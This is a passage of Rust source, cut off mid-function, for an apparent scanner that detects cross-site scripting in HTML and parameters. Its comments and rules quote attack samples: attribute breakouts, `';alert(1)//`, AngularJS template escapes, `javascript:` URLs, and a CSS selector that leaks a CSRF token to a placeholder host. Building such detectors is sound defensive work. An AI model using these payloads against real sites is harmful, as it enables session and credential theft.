//! Cross-site scripting: an HTML-aware scan.
//!
//! Instead of matching `<script` anywhere, the scanner reads tags the way a
//! browser would (a `<` directly followed by a letter opens a tag; attributes
//! are name, optional `=`, quoted or bare value) and reports what executes:
//! script tags, event-handler attributes, dangerous URL schemes in attribute
//! values (after stripping the tabs and newlines browsers ignore inside a
//! scheme), CSS expressions, `srcdoc`, and embedding tags. Outside tags it
//! looks for the shapes of injection into an existing page: breaking out of
//! an attribute (`" onmouseover="...`), out of a JavaScript string
//! (`';alert(1)//`), a bare `javascript:` URL, and AngularJS template escapes.
//!
//! "a < b and c > d", "Tom & Jerry <3" and `<b>`/`<div class="x">` have no
//! executing part and are not reported.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use std::sync::OnceLock;

use crate::finding::{Category, Hit, RuleInfo, Severity};

const fn rule(id: &'static str, severity: Severity, description: &'static str) -> RuleInfo {
    RuleInfo {
        id,
        category: Category::Xss,
        severity,
        description,
    }
}

const SCRIPT: usize = 0;
const EVENT: usize = 1;
const URI: usize = 2;
const TAG: usize = 3;
const CSS: usize = 4;
const SRCDOC: usize = 5;
const TEMPLATE: usize = 6;
const JS: usize = 7;
const BREAKOUT: usize = 8;
const GADGET: usize = 9;
const CLOBBER: usize = 10;
const PDF: usize = 11;
const FORM: usize = 12;
const INCLUDE: usize = 13;
const INLINE: usize = 14;

/// The id of the rule for a handler of a user action that only calls a
/// page function (`onclick="window.print()"`), which the engine reports
/// only for parameter values: page templates are full of them.
pub(crate) const INLINE_HANDLER_RULE: &str = "xss-inline-handler";

/// The id of the rule for an empty script element that loads a same-site
/// file, which the engine reports only for parameter values: a page's own
/// markup, pasted into a message or a scanned file, is full of them.
pub(crate) const SCRIPT_INCLUDE_RULE: &str = "xss-script-include";

/// The XSS rules.
pub(crate) static RULES: &[RuleInfo] = &[
    rule("xss-script-tag", Severity::Critical, "A <script> element"),
    rule(
        "xss-event-handler",
        Severity::High,
        "An on* event-handler attribute (onerror=, onload=, onmouseover=), in a tag or after breaking out of an attribute",
    ),
    rule(
        "xss-dangerous-uri",
        Severity::Critical,
        "A javascript:, vbscript: or data:text/html URL where a link or resource is expected",
    ),
    rule(
        "xss-embedding-tag",
        Severity::High,
        "A tag that loads or runs other content (iframe, object, embed, applet, base, meta refresh)",
    ),
    rule(
        "xss-css-expression",
        Severity::High,
        "Script inside CSS (expression(), javascript: in url(), behavior, -moz-binding), or a style sheet that reads field values through [value^=...] selectors",
    ),
    rule(
        "xss-srcdoc",
        Severity::High,
        "An srcdoc attribute (an inline document in an iframe)",
    ),
    rule(
        "xss-template-injection",
        Severity::High,
        "AngularJS/client-side template expression reaching for code ({{constructor.constructor(...)()}})",
    ),
    rule(
        "xss-js-injection",
        Severity::High,
        "JavaScript sink reached by breaking out of a string or as a whole value (';alert(1)//, alert(document.cookie))",
    ),
    rule(
        "xss-markup-breakout",
        Severity::Medium,
        "A value that closes the HTML comment it is placed in (-->, --!>)",
    ),
    rule(
        "xss-framework-gadget",
        Severity::High,
        "A framework attribute that runs a script sink or loads markup from another site (hx-on, hx-get, x-init, @click, v-on:, ng-*)",
    ),
    rule(
        "xss-dom-clobbering",
        Severity::Medium,
        "Markup that overrides a script's object: a form with an id whose named field carries a URL",
    ),
    rule(
        "xss-pdf-action",
        Severity::High,
        "A PDF JavaScript action (/JS with code, /S /JavaScript)",
    ),
    rule(
        "xss-credential-form",
        Severity::High,
        "Injected markup asking for a password and sending it to another site (a form with an absolute action and a password field)",
    ),
    rule(
        SCRIPT_INCLUDE_RULE,
        Severity::High,
        "An empty <script src> element loading a same-site file (reported for parameters, not in documents)",
    ),
    rule(
        INLINE_HANDLER_RULE,
        Severity::High,
        "A handler of a user action that only calls a page function (onclick=\"window.print()\"; reported for parameters, not in documents)",
    ),
];

fn hit(hits: &mut Vec<Hit>, r: usize, base: usize, s: usize, e: usize) {
    hits.push(Hit {
        rule: &RULES[r],
        start: base + s,
        end: base + e.max(s),
    });
}

fn lower_eq(a: &[u8], b: &[u8]) -> bool {
    a.eq_ignore_ascii_case(b)
}

const EMBEDDING: &[&[u8]] = &[
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"portal",
    b"import",
    b"vmlframe",
];

/// Elements whose content is raw text to the HTML parser.
const RAW_TEXT: &[&[u8]] = &[
    b"noscript",
    b"noembed",
    b"noframes",
    b"xmp",
    b"plaintext",
    b"listing",
];

/// Tags worth spelling out letter by letter (`<f o r m`, `< x: script`), a
/// trick against filters that look for the tag name as one word.
const SPACED_TAGS: &[&[u8]] = &[
    b"script",
    b"form",
    b"dialog",
    b"iframe",
    b"frame",
    b"object",
    b"embed",
    b"applet",
    b"style",
    b"svg",
    b"math",
    b"base",
    b"link",
    b"meta",
    b"img",
    b"image",
    b"video",
    b"audio",
    b"input",
    b"button",
    b"isindex",
    b"marquee",
    b"details",
    b"template",
    b"textarea",
    b"select",
    b"body",
    b"html",
    b"frameset",
];

/// `<f o r m`, `< s c r i p t`, `< x: script`: a tag name spelt with
/// blanks between its letters or behind a spaced namespace prefix. Returns
/// the end of the name.
fn spaced_tag(b: &[u8], lt: usize) -> Option<usize> {
    let blank = |c: u8| c == b' ' || c == b'\t' || c == b'\n' || c == b'\r';
    let mut i = lt + 1;
    while i < b.len() && i < lt + 4 && blank(b[i]) {
        i += 1;
    }
    // A namespace prefix: `x:` then blanks and the whole name.
    let mut p = i;
    while p < b.len() && p < i + 8 && b[p].is_ascii_alphabetic() {
        p += 1;
    }
    if p > i && b.get(p) == Some(&b':') && (p + 1 >= b.len() || blank(b[p + 1])) {
        let mut k = p + 1;
        while k < b.len() && k < p + 5 && blank(b[k]) {
            k += 1;
        }
        let mut e = k;
        while e < b.len() && e < k + 12 && b[e].is_ascii_alphabetic() {
            e += 1;
        }
        let name = &b[k..e];
        let ends = e >= b.len() || !b[e].is_ascii_alphanumeric();
        return (ends && SPACED_TAGS.iter().any(|t| lower_eq(name, t))).then_some(e);
    }
    // Single letters with one blank between each.
    let mut name = [0u8; 12];
    let mut len = 0;
    let mut k = i;
    while k < b.len() && len < name.len() && b[k].is_ascii_alphabetic() {
        if k + 1 < b.len() && b[k + 1].is_ascii_alphanumeric() {
            return None;
        }
        name[len] = b[k];
        len += 1;
        k += 1;
        if k + 1 < b.len() && blank(b[k]) && b[k + 1].is_ascii_alphabetic() {
            k += 1;
        } else {
            break;
        }
    }
    (len >= 3 && SPACED_TAGS.iter().any(|t| lower_eq(&name[..len], t))).then_some(k)
}

const EVENTS: &[&[u8]] = &[
    b"onabort",
    b"onafterprint",
    b"onanimationend",
    b"onanimationiteration",
    b"onanimationstart",
    b"onauxclick",
    b"onbeforeprint",
    b"onbeforeunload",
    b"onbegin",
    b"onblur",
    b"oncanplay",
    b"onchange",
    b"onclick",
    b"oncontextmenu",
    b"oncopy",
    b"oncut",
    b"ondblclick",
    b"ondrag",
    b"ondragend",
    b"ondragenter",
    b"ondragleave",
    b"ondragover",
    b"ondragstart",
    b"ondrop",
    b"onend",
    b"onerror",
    b"onfocus",
    b"onfocusin",
    b"onfocusout",
    b"onhashchange",
    b"oninput",
    b"oninvalid",
    b"onkeydown",
    b"onkeypress",
    b"onkeyup",
    b"onload",
    b"onloadstart",
    b"onmessage",
    b"onmousedown",
    b"onmouseenter",
    b"onmouseleave",
    b"onmousemove",
    b"onmouseout",
    b"onmouseover",
    b"onmouseup",
    b"onmousewheel",
    b"onpageshow",
    b"onpaste",
    b"onpause",
    b"onplay",
    b"onpointerdown",
    b"onpointerenter",
    b"onpointerover",
    b"onpointermove",
    b"onpopstate",
    b"onprogress",
    b"onrepeat",
    b"onreset",
    b"onresize",
    b"onscroll",
    b"onsearch",
    b"onselect",
    b"onselectstart",
    b"onshow",
    b"onstart",
    b"onsubmit",
    b"ontoggle",
    b"ontouchstart",
    b"ontransitionend",
    b"onunload",
    b"onwheel",
    b"onfinish",
];

fn is_event_name(name: &[u8]) -> bool {
    name.len() >= 5
        && lower_eq(&name[..2], b"on")
        && name[2..]
            .iter()
            .all(|c| c.is_ascii_alphabetic() || *c == b'-' || *c == b'_')
}

/// Reads a URL scheme ending at the `:` at `colon`, skipping the tabs, newlines
/// and other control characters browsers drop inside a scheme. Returns the
/// lowercased scheme and where it starts.
fn scheme_before(b: &[u8], colon: usize) -> Option<([u8; 16], usize, usize, bool)> {
    let mut buf = [0u8; 16];
    let mut len = 0;
    let mut i = colon;
    let mut start = colon;
    let mut hidden = false;
    while i > 0 && colon - i < 40 {
        let c = b[i - 1];
        if c.is_ascii_alphabetic() {
            if len == buf.len() {
                return None;
            }
            buf[len] = c.to_ascii_lowercase();
            len += 1;
            start = i - 1;
        } else if c < 0x20 && c != 0 {
            hidden |= len > 0;
        } else {
            break;
        }
        i -= 1;
    }
    if len == 0 {
        return None;
    }
    buf[..len].reverse();
    Some((buf, len, start, hidden))
}

/// Whether the scheme ending at `colon` is one that runs script: its start,
/// and whether control characters were hidden inside it (`jav\tascript:`).
fn dangerous_scheme_ex(b: &[u8], colon: usize) -> Option<(usize, bool)> {
    let (_, _, _, hidden) = scheme_before(b, colon)?;
    dangerous_scheme(b, colon).map(|s| (s, hidden))
}

/// Whether the scheme ending at `colon` is one that runs script.
fn dangerous_scheme(b: &[u8], colon: usize) -> Option<usize> {
    let (buf, len, start, _) = scheme_before(b, colon)?;
    let scheme = &buf[..len];
    match scheme {
        b"javascript" | b"vbscript" | b"livescript" | b"mocha" | b"vbs" | b"jscript" => Some(start),
        b"data" => {
            // data:text/html, data:image/svg+xml, data:application/xhtml+xml...
            let mut buf = [0u8; 24];
            let mut len = 0;
            for &c in b[colon + 1..].iter().take(64) {
                if len == buf.len() {
                    break;
                }
                if !c.is_ascii_whitespace() {
                    buf[len] = c.to_ascii_lowercase();
                    len += 1;
                }
            }
            let rest = &buf[..len];
            let bad = [
                &b"text/html"[..],
                b"image/svg",
                b"application/xhtml",
                b"application/x-shockwave",
                b"text/xml",
                b"application/xml",
                b"text/javascript",
                b"application/javascript",
            ];
            // `data:,<svg onload=...>`: a payload that is markup, whatever
            // the declared type.
            let markup = memchr::memchr(b',', rest).is_some_and(|c| rest.get(c + 1) == Some(&b'<'));
            (markup || bad.iter().any(|p| rest.starts_with(p))).then_some(start)
        }
        _ => None,
    }
}

/// CSS that runs script, after dropping comments, whitespace and escapes.
fn css_is_dangerous(v: &[u8]) -> bool {
    let mut norm = Vec::with_capacity(v.len().min(2048));
    let mut i = 0;
    while i < v.len() && norm.len() < 2048 {
        if v[i] == b'/' && v.get(i + 1) == Some(&b'*') {
            i = memchr::memmem::find(&v[i + 2..], b"*/").map_or(v.len(), |o| i + 2 + o + 2);
            continue;
        }
        let c = v[i];
        if !c.is_ascii_whitespace() && c != b'\\' && c != 0 {
            norm.push(c.to_ascii_lowercase());
        }
        i += 1;
    }
    let has = |p: &[u8]| memchr::memmem::find(&norm, p).is_some();
    has(b"expression(")
        || has(b"javascript:")
        || has(b"vbscript:")
        || has(b"behavior:")
        || has(b"-moz-binding")
        || has(b"@import")
}

struct Attr {
    name: (usize, usize),
    value: Option<(usize, usize)>,
}

/// Parses the attributes of a tag in `b[from..to]`.
fn attributes(b: &[u8], from: usize, to: usize, mut f: impl FnMut(Attr)) {
    let mut i = from;
    let mut count = 0;
    while i < to && count < 64 {
        while i < to && (b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] < 0x20) {
            i += 1;
        }
        if i >= to {
            break;
        }
        let ns = i;
        while i < to
            && !(b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] == b'=' || b[i] == b'>')
        {
            i += 1;
        }
        // `<img src="x"/onerror=...>`: a name can start right after a quote.
        let name = (ns, i.max(ns + 1).min(to));
        if i == ns {
            i += 1;
        }
        let mut j = i;
        while j < to && b[j].is_ascii_whitespace() {
            j += 1;
        }
        let mut value = None;
        if j < to && b[j] == b'=' {
            j += 1;
            while j < to && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if j < to && matches!(b[j], b'"' | b'\'' | b'`') {
                let q = b[j];
                let vs = j + 1;
                let ve = memchr::memchr(q, &b[vs..to]).map_or(to, |o| vs + o);
                value = Some((vs, ve));
                i = (ve + 1).min(to);
            } else {
                let vs = j;
                while j < to && !b[j].is_ascii_whitespace() && b[j] != b'>' {
                    j += 1;
                }
                value = Some((vs, j));
                i = j;
            }
        }
        f(Attr { name, value });
        count += 1;
    }
}

/// Looks at the tag opening at `lt`; returns where scanning resumes.
fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
    let n = b.len();
    // `<?import ...>` is a processing instruction; its name follows the `?`.
    let ns = if b.get(lt + 1) == Some(&b'?') {
        lt + 2
    } else {
        lt + 1
    };
    let mut ne = ns;
    while ne < n && (b[ne].is_ascii_alphanumeric() || matches!(b[ne], b':' | b'-' | b'_')) {
        ne += 1;
    }
    let name = &b[ns..ne];
    let local = match memchr::memrchr(b':', name) {
        Some(p) => &name[p + 1..],
        None => name,
    };
    // The tag ends at a `>` outside quoted attribute values (`probe="-->"`
    // holds one), or where the next tag starts (`<scr<script>ipt>`): tag
    // regions never overlap, so the scan is linear.
    let end = {
        let mut k = ne;
        let mut quote = 0u8;
        loop {
            match memchr::memchr3(b'>', b'<', if quote == 0 { b'"' } else { quote }, &b[k..]) {
                None => break n,
                Some(o) => {
                    let c = b[k + o];
                    if c == b'<' || (c == b'>' && quote == 0) {
                        break k + o;
                    }
                    if c == b'"' || c == b'\'' {
                        // A quote opens only where an attribute value starts.
                        quote = if quote == 0 && k + o > 0 && b[k + o - 1] == b'=' {
                            c
                        } else if quote == c {
                            0
                        } else {
                            quote
                        };
                    }
                    k += o + 1;
                }
            }
        }
    };
    let tag_end = if end < n && b[end] == b'>' {
        end + 1
    } else {
        end
    };
    if lower_eq(local, b"script")
        && !script_tag_named(b, lt, ne, end, tag_end)
        && !data_block(b, ne, end)
        && !type_argument(b, lt, tag_end)
    {
        let rule = if same_site_include(b, ne, end, tag_end) {
            INCLUDE
        } else {
            SCRIPT
        };
        hit(hits, rule, base, lt, tag_end);
    }
    // "Add an <iframe> only for trusted embeds": a bare tag name loads nothing.
    let embedding = EMBEDDING.iter().any(|t| lower_eq(local, t))
        && b[ne..end].contains(&b'=')
        && !(lower_eq(local, b"iframe") && foreign_page_frame(b, ne, end));
    if embedding {
        hit(hits, TAG, base, lt, tag_end);
    }
    let is_meta = lower_eq(local, b"meta");
    let is_link = lower_eq(local, b"link");
    // XInclude (`<xi:include href=...>`) pulls another document in.
    let is_include = local.len() < name.len() && lower_eq(local, b"include");
    // A style sheet declared as something else (`type="text/javascript"`)
    // is not the page's own plain CSS.
    let mut plain_css = true;
    // `<link rel="shortcut icon" href=...>`: a link that only names an icon
    // or a related page loads no style sheet or document into this one.
    let mut inert_rel = false;
    if is_link {
        attributes(b, ne, end, |a| {
            if lower_eq(&b[a.name.0..a.name.1], b"type") {
                let v = a
                    .value
                    .map_or(&b[0..0], |(s, e)| &b[s..e])
                    .to_ascii_lowercase();
                // `type="font/woff2"` on a preload is a font; only a
                // script or markup type makes the link more than CSS.
                plain_css &= !["script", "html", "xml"]
                    .iter()
                    .any(|t| memchr::memmem::find(&v, t.as_bytes()).is_some());
            }
            if lower_eq(&b[a.name.0..a.name.1], b"rel") {
                let v = a.value.map_or(&b[0..0], |(s, e)| &b[s..e]);
                inert_rel = inert_link_rel(v);
            }
        });
    }
    attributes(b, ne, end, |a| {
        let an = &b[a.name.0..a.name.1];
        let (vs, ve) = a.value.unwrap_or((a.name.1, a.name.1));
        let v = &b[vs..ve];
        let page_handler = a.value.is_some() && is_event_name(an) && page_handler(an, v);
        // An attribute value is a value of its own: code or a URL in it
        // (`<a probe="window.location">`) is found as in a bare value.
        if a.value.is_some() && ve > vs && !page_handler {
            analyse(v, base + vs, hits, false);
        }
        // `<link href=...>` loads a style sheet (or more) from elsewhere;
        // `<meta charset=...>` switches the page's encoding (UTF-7 tricks).
        // A same-site relative style sheet (`../css/print.css`) embeds
        // nothing the site does not already serve; `rel=import` is caught
        // below whatever its URL.
        if (is_include || (is_link && !inert_rel && !(plain_css && same_site_path(v))))
            && lower_eq(an, b"href")
        {
            hit(hits, TAG, base, lt, tag_end);
        }
        if is_meta && lower_eq(an, b"charset") && a.value.is_some() {
            hit(hits, TAG, base, lt, tag_end);
        }
        if a.value.is_some() && is_event_name(an) && !jsx_handler(&b[vs..]) {
            let rule = if page_handler { INLINE } else { EVENT };
            hit(hits, rule, base, a.name.0, ve);
        }
        if a.value.is_some() && framework_gadget(an, v) {
            hit(hits, GADGET, base, a.name.0, ve);
        }
        if a.value.is_some() {
            // Any attribute: href, src, action, formaction, data, xlink:href,
            // background, values, to, from, content...
            let mut k = 0;
            while let Some(off) = memchr::memchr(b':', &v[k..]) {
                let colon = k + off;
                if let Some(s) = dangerous_scheme(v, colon) {
                    let before = &v[..s];
                    let at_start = before.iter().all(|c| c.is_ascii_whitespace() || *c < 0x20);
                    let after_url = before.ends_with(b"=")
                        || before.ends_with(b"(")
                        || before.ends_with(b"'")
                        || before.ends_with(b"\"");
                    if at_start || after_url {
                        hit(hits, URI, base, a.name.0, ve);
                        break;
                    }
                }
                k = colon + 1;
                if k > 256 {
                    break;
                }
            }
        }
        if lower_eq(an, b"style") && css_is_dangerous(v) {
            hit(hits, CSS, base, a.name.0, ve);
        }
        if lower_eq(an, b"srcdoc") && a.value.is_some() {
            hit(hits, SRCDOC, base, a.name.0, ve);
        }
        if is_meta && lower_eq(an, b"http-equiv") {
            let v = v.to_ascii_lowercase();
            if v.starts_with(b"refresh")
                || v.starts_with(b"set-cookie")
                || v.starts_with(b"content-type")
            {
                hit(hits, TAG, base, lt, tag_end);
            }
        }
        if is_link && lower_eq(an, b"rel") && lower_eq(v, b"import") {
            hit(hits, TAG, base, lt, tag_end);
        }
    });
    // Raw-text elements whose content the parser does not read as markup:
    // the classic way to smuggle a tag past a sanitiser (mutation XSS).
    if ne > ns
        && RAW_TEXT.iter().any(|t| lower_eq(local, t))
        && !plain_text_element(b, ne, tag_end)
        && !closes_outside_quotes(b, local, tag_end)
    {
        hit(hits, TAG, base, lt, tag_end);
    }
    if lower_eq(local, b"style") {
        // Look at the style sheet up to </style>, bounded.
        // Up to the next tag (normally </style>): disjoint for consecutive
        // tags, so the whole scan stays linear.
        let body_end = memchr::memchr(b'<', &b[tag_end..]).map_or(n, |o| tag_end + o);
        let close = (body_end - tag_end).min(4096);
        let body = &b[tag_end..tag_end + close];
        // An injected style sheet written in CSS escapes hides what it
        // names (`@\69mport`, `\65xpression`).
        if css_is_dangerous(body)
            || (tag_end > ne && body.contains(&b'\\'))
            || css_reads_values(body)
        {
            hit(hits, CSS, base, lt, tag_end + close);
        }
    }
    tag_end.max(lt + 1)
}

/// A style sheet that reads a field's value out character by character:
/// `input[name=csrf][value^=a]{background:url(//x/a)}` fetches a URL only
/// when the value starts with `a`. A selector on `value` by prefix, suffix
/// or substring, and a `url(` to load.
fn css_reads_values(body: &[u8]) -> bool {
    if memchr::memmem::find(body, b"url(").is_none() {
        return false;
    }
    let lower = body.to_ascii_lowercase();
    memchr::memmem::find_iter(&lower, b"[value").any(|p| {
        let rest = &lower[p + 6..];
        let k = rest
            .iter()
            .take(4)
            .take_while(|c| c.is_ascii_whitespace())
            .count();
        matches!(rest.get(k..k + 2), Some(b"^=" | b"$=" | b"*="))
    })
}

/// `<form action=//elsewhere>` holding a password field: markup that asks
/// for the user's password and sends it to another site.
fn credential_form(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut budget = 64;
    let mut form: Option<usize> = None;
    for lt in memchr::memchr_iter(b'<', b) {
        if budget == 0 {
            return;
        }
        budget -= 1;
        let ns = lt + 1;
        let ne = ns
            + b[ns..]
                .iter()
                .take(16)
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
        let name = &b[ns..ne];
        let end = memchr::memchr2(b'>', b'<', &b[ne..]).map_or(b.len(), |o| ne + o);
        if lower_eq(name, b"form") {
            let mut foreign = false;
            attributes(b, ne, end, |a| {
                if let Some((vs, ve)) = a.value
                    && (lower_eq(&b[a.name.0..a.name.1], b"action"))
                {
                    let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
                    foreign = v.starts_with(b"//")
                        || v.starts_with(b"http://")
                        || v.starts_with(b"https://");
                }
            });
            form = foreign.then_some(lt);
            continue;
        }
        let Some(f) = form else { continue };
        if lower_eq(name, b"input") {
            let mut password = false;
            attributes(b, ne, end, |a| {
                if let Some((vs, ve)) = a.value
                    && lower_eq(&b[a.name.0..a.name.1], b"type")
                {
                    password = lower_eq(b[vs..ve].trim_ascii(), b"password");
                }
            });
            if password {
                hit(hits, FORM, base, f, end.min(b.len()));
                return;
            }
        }
    }
}

/// Whether the `<script>` whose attributes lie in `b[from..to]` is a data
/// block: a `type` the browser does not run (`application/ld+json`,
/// `application/json`, `text/plain`) and no `src`.
fn data_block(b: &[u8], from: usize, to: usize) -> bool {
    let mut data = false;
    let mut src = false;
    attributes(b, from, to, |a| {
        let an = &b[a.name.0..a.name.1];
        if lower_eq(an, b"src") {
            src = true;
        }
        if let Some((vs, ve)) = a.value
            && lower_eq(an, b"type")
        {
            let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
            data = v.ends_with(b"/json") || v.ends_with(b"+json") || v == b"text/plain";
        }
    });
    data && !src
}

/// Attributes of an ordinary embedded page (a video, a map, a form from
/// another service): layout, permissions and a title.
const FRAME_ATTRS: &[&[u8]] = &[
    b"src",
    b"title",
    b"width",
    b"height",
    b"allow",
    b"allowfullscreen",
    b"frameborder",
    b"loading",
    b"referrerpolicy",
    b"sandbox",
    b"class",
    b"id",
    b"style",
    b"scrolling",
    b"aria-label",
];

/// Whether the `<iframe>` whose attributes lie in `b[from..to]` only shows
/// a page of another site over `https:`. Such a page runs in its own
/// origin and cannot reach this one's script; what makes a frame an attack
/// (a `javascript:` or `data:` source, `srcdoc`, a handler, a `name` for
/// the framed page to read) is reported by the other checks.
fn foreign_page_frame(b: &[u8], from: usize, to: usize) -> bool {
    let mut https = false;
    let mut plain = true;
    let mut placed = false;
    let mut full = (false, false);
    attributes(b, from, to, |a| {
        let an = &b[a.name.0..a.name.1];
        if !FRAME_ATTRS.iter().any(|f| lower_eq(an, f)) {
            plain = false;
        }
        let v = a.value.map_or(&b[0..0], |(vs, ve)| &b[vs..ve]);
        if lower_eq(an, b"style") {
            let (p, w, h) = overlay_style(v);
            placed |= p;
            full.0 |= w;
            full.1 |= h;
        }
        if lower_eq(an, b"width") || lower_eq(an, b"height") {
            let whole = matches!(v.trim_ascii(), b"100%" | b"100vw" | b"100vh");
            if lower_eq(an, b"width") {
                full.0 |= whole;
            } else {
                full.1 |= whole;
            }
        }
        if lower_eq(an, b"src") {
            let v = a.value.map_or(&b[0..0], |(vs, ve)| &b[vs..ve]).trim_ascii();
            https = v.len() > 8
                && v[..8].eq_ignore_ascii_case(b"https://")
                && v[8..].iter().all(|&c| {
                    c.is_ascii_graphic() && !matches!(c, b'<' | b'>' | b'"' | b'\'' | b'`')
                });
        }
    });
    // `style="position:fixed;top:0;left:0;width:100%;height:100%"`: a
    // frame laid over the whole page shows another site's page (a login
    // form) as if it were this one, and takes the clicks meant for it.
    let overlay = placed && full.0 && full.1;
    https && plain && !overlay
}

/// What a style attribute's declarations say about a frame's placement:
/// (pinned to the window with `position: fixed`, as wide
/// as the page, as high as the page). `inset: 0` or four zero offsets
/// stretch it over the page both ways.
fn overlay_style(v: &[u8]) -> (bool, bool, bool) {
    let mut placed = false;
    let (mut wide, mut high) = (false, false);
    let mut zero = 0;
    for decl in v.split(|&c| c == b';') {
        let Some(colon) = memchr::memchr(b':', decl) else {
            continue;
        };
        let prop = decl[..colon].trim_ascii().to_ascii_lowercase();
        let val = decl[colon + 1..].trim_ascii().to_ascii_lowercase();
        let val = val.strip_suffix(b"!important").unwrap_or(&val).trim_ascii();
        let whole = |v: &[u8]| matches!(v, b"100%" | b"100vw" | b"100vh" | b"100dvh" | b"100svh");
        match prop.as_slice() {
            // `absolute` with 100% is the responsive video embed, sized
            // by its wrapper; `fixed` is sized by the window.
            b"position" => placed |= val == b"fixed",
            b"width" | b"min-width" => wide |= whole(val),
            b"height" | b"min-height" => high |= whole(val),
            b"inset"
                if val
                    .split(|c| c.is_ascii_whitespace())
                    .all(|x| matches!(x, b"0" | b"0px" | b"")) =>
            {
                wide = true;
                high = true;
            }
            b"top" | b"left" | b"right" | b"bottom" if matches!(val, b"0" | b"0px") => zero += 1,
            _ => {}
        }
    }
    if zero == 4 {
        wide = true;
        high = true;
    }
    (placed, wide, high)
}

/// Attributes that frameworks read as code or as a place to load markup
/// from: htmx (`hx-get` and friends fetch HTML into the page, `hx-on`
/// runs code), Alpine (`x-init`, `x-on:`, `@event`), Vue (`v-on:`) and
/// AngularJS (`ng-click`, `ng-init`...). Reported when the value calls a
/// script sink, or fetches from another site.
fn framework_gadget(name: &[u8], v: &[u8]) -> bool {
    let n = name.to_ascii_lowercase();
    let n = n.strip_prefix(b"data-").unwrap_or(&n);
    let fetches = [
        &b"hx-get"[..],
        b"hx-post",
        b"hx-put",
        b"hx-patch",
        b"hx-delete",
    ]
    .contains(&n);
    if fetches {
        let v = v.trim_ascii();
        let lower = v.to_ascii_lowercase();
        return lower.starts_with(b"https://")
            || lower.starts_with(b"http://")
            || lower.starts_with(b"//");
    }
    let code = n.starts_with(b"hx-on")
        || n.starts_with(b"x-on:")
        || n == b"x-init"
        || n == b"x-effect"
        || n.starts_with(b"v-on:")
        || (n.starts_with(b"@") && n.len() > 1)
        || (n.starts_with(b"ng-") && n.len() > 3);
    code && v.len() >= 3 && sink_candidate(v, classes(v))
}

/// `" onmouseover="alert(1)` / `' autofocus onfocus=alert(1) x='`.
fn attribute_breakout(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut k = 0;
    while let Some(off) = memchr::memchr(b'=', &b[k..]) {
        let eq = k + off;
        k = eq + 1;
        let mut ne = eq;
        while ne > 0 && b[ne - 1].is_ascii_whitespace() {
            ne -= 1;
        }
        let mut ns = ne;
        // Event names run long (`onwebkitplaybacktargetavailabilitychanged`).
        while ns > 0 && ne - ns < 64 && (b[ns - 1].is_ascii_alphabetic()) {
            ns -= 1;
        }
        let name = &b[ns..ne];
        // Attributes that take code or a document as their value count like
        // handlers when injected.
        let code_attr = lower_eq(name, b"formaction") || lower_eq(name, b"srcdoc");
        if !is_event_name(name) && !code_attr {
            continue;
        }
        // Just before the name: whitespace or '/', and a quote or '>' shortly before.
        if ns > 0
            && !(b[ns - 1].is_ascii_whitespace() || matches!(b[ns - 1], b'/' | b'"' | b'\'' | b'`'))
        {
            continue;
        }
        let window = &b[ns.saturating_sub(64)..ns];
        let quoted = window
            .iter()
            .any(|c| matches!(c, b'"' | b'\'' | b'`' | b'>'));
        // Or the whole value is `onload=` (an attribute name being injected).
        let alone = window.iter().all(|c| c.is_ascii_whitespace())
            && b[eq + 1..].iter().all(|c| c.is_ascii_whitespace());
        // Or, with no quote or tag around, a value that calls a sink: the
        // payload for an unquoted attribute (` autofocus onfocus=alert(1) `).
        // `the onclick=handler pattern` calls nothing.
        let tagless = !quoted && !alone && value_calls_sink(b, eq + 1);
        if !quoted && !alone && !tagless {
            continue;
        }
        let mut ve = eq + 1;
        while ve < b.len() && b[ve].is_ascii_whitespace() {
            ve += 1;
        }
        let vs = ve;
        while ve < b.len()
            && ve - vs < 64
            && !matches!(b[ve], b'>' | b'"' | b'\'')
            && !b[ve].is_ascii_whitespace()
        {
            ve += 1;
        }
        let value = &b[vs..ve];
        let known = code_attr || EVENTS.iter().any(|e| lower_eq(name, e));
        let code_like = value.iter().any(|c| matches!(c, b'(' | b'`' | b'='));
        // `"onzoom=` ending the value: an attribute being injected.
        let dangling = value.is_empty() && ve == b.len();
        if (known || code_like || dangling || tagless) && !jsx_handler(&b[vs..]) {
            // A quoted page handler (`onclick="window.print()"`) keeps the
            // rule the tag scan gives it.
            let quoted_page_handler =
                value.is_empty() && matches!(b.get(ve), Some(b'"' | b'\'')) && {
                    let q = b[ve];
                    let lim = b.len().min(ve + 1 + 121);
                    memchr::memchr(q, &b[ve + 1..lim])
                        .is_some_and(|o| page_handler(name, &b[ve + 1..ve + 1 + o]))
                };
            let rule = if quoted_page_handler { INLINE } else { EVENT };
            hit(hits, rule, base, ns, ve);
        }
    }
}

/// Whether the attribute value starting at `from` (bare, or in quotes)
/// calls a script sink: `alert(1)`, `"top.confirm(1)"`, `eval(atob(...))`.
fn value_calls_sink(b: &[u8], from: usize) -> bool {
    let mut s = from;
    while s < b.len() && b[s].is_ascii_whitespace() {
        s += 1;
    }
    let quote = match b.get(s) {
        Some(&q @ (b'"' | b'\'' | b'`')) => {
            s += 1;
            Some(q)
        }
        _ => None,
    };
    let mut e = s;
    while e < b.len()
        && e - s < 96
        && match quote {
            Some(q) => b[e] != q,
            None => !b[e].is_ascii_whitespace() && b[e] != b'>',
        }
    {
        e += 1;
    }
    let v = &b[s..e];
    memchr::memchr2_iter(b'(', b'`', v).any(|p| one_of(ident_before(v, p).0, CALLED))
}

/// `javascript:` outside tags: a whole value (an href being set), after `=`,
/// a quote or `(`, or followed directly by code.
fn bare_scheme(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut k = 0;
    while let Some(off) = memchr::memchr(b':', &b[k..]) {
        let colon = k + off;
        k = colon + 1;
        let Some((s, hidden)) = dangerous_scheme_ex(b, colon) else {
            continue;
        };
        let mut p = s;
        while p > 0 && b[p - 1].is_ascii_whitespace() {
            p -= 1;
        }
        let prev = if p == 0 { None } else { Some(b[p - 1]) };
        let ctx = matches!(
            prev,
